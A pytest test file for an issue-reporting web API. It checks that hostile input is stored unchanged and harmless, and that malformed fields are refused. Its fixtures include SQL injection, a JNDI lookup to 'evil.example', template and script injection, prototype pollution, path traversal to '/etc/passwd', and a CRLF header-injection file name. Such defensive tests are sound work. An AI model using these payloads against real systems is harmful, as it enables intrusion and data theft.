"""What people and programs send that is meant for other ears: it is kept as it is, and means nothing."""

import csv
import io
from typing import Any

import pytest
from httpx import AsyncClient

from intake.domain.attaching import plain_name

from .reporting import Token, found, reported

WORDS = [
    "'); drop table issues; --",
    "{{7*7}} ${jndi:ldap://evil.example/x} {% include '/etc/passwd' %} %s %(a)s {0.__class__}",
    "<script>alert(1)</script>",
    "👩‍👩‍👧 🏚️ \u202eتسرب الماء\u202c עברית",
    "𠮷野家 ㍿ ｱ e\u0301 \ufeff",
]


@pytest.mark.parametrize("words", WORDS, ids=["sql", "templates", "page", "emoji and right to left", "rare"])
async def test_words_arrive_as_they_were_sent(client: AsyncClient, token: Token, words: str) -> None:
    words = words.strip()
    staff, issue = token("staff"), await reported(client, words, address=words[:200])
    shown = (await client.get(f"/v1/issues/{issue}", headers=staff)).json()
    assert (shown["description"], shown["address"]) == (words, words[:200])
    exported = await client.get("/v1/issues/export.csv", headers=staff)
    [row] = csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"), newline=""))
    assert row["description"].removeprefix("'") == words.removeprefix("'")
    assert await found(client, staff, q=words[:200]) == [issue]


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"attributes": {f"a{number}": "1" for number in range(10_000)}}, "attributes"),
        ({"attributes": {"a": ["1"] * 10_000}}, "attributes.a"),
        ({"attributes": {"__proto__": "1"}}, "attributes.__proto__"),
        ({"attributes": {"a": {"$gt": ""}}}, "attributes.a"),
        ({"location": {"lat": "NaN", "lon": 0}}, "location.lat"),
        ({"location": {"lat": 26, "lon": 180.1}}, "location.lon"),
    ],
    ids=["10,000 attributes", "10,000 answers", "prototype", "operator", "no number", "off the world"],
)
async def test_what_is_too_much_or_no_report_is_refused(
    client: AsyncClient, change: dict[str, Any], field: str
) -> None:
    refused = await client.post("/v1/issues", json={"description": "灯坏了", **change})
    assert refused.status_code == 422
    assert all(error["field"].startswith(field) for error in refused.json()["errors"])


async def test_a_point_at_sea_belongs_to_the_top(client: AsyncClient, token: Token) -> None:
    answer = await client.post("/v1/issues", json={"description": "漂浮物", "location": {"lat": 25.0, "lon": 121.9}})
    shown = (await client.get(f"/v1/issues/{answer.json()['id']}", headers=token("staff"))).json()
    assert (shown["area"], shown["location"]) == ("sanchajie", {"lat": 25.0, "lon": 121.9})


async def test_a_cursor_of_another_list_is_refused(client: AsyncClient, token: Token) -> None:
    staff = token("staff")
    for _ in range(2):
        await reported(client, "灯坏了")
    cursor = (await client.get("/v1/issues", params={"limit": 1}, headers=staff)).json()["next"]
    for path in ("/v1/visits", "/v1/issues?q=漏雨"):
        refused = await client.get(path, params={"after": cursor, "q": "漏雨"}, headers=staff)
        assert (refused.status_code, refused.json()["type"].rpartition("/")[2]) == (422, "invalid-cursor")


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("/etc/", None),
        ("..", None),
        ("a\u202egpj.exe", "agpj.exe"),
        ("楼顶\x00.jpg\r\nSet-Cookie: a=b", "楼顶.jpgSet-Cookie: a=b"),
        ("x" * 500, "x" * 120),
    ],
)
def test_names_of_files_lead_nowhere(sent: str, kept: str | None) -> None:
    assert plain_name(sent) == kept
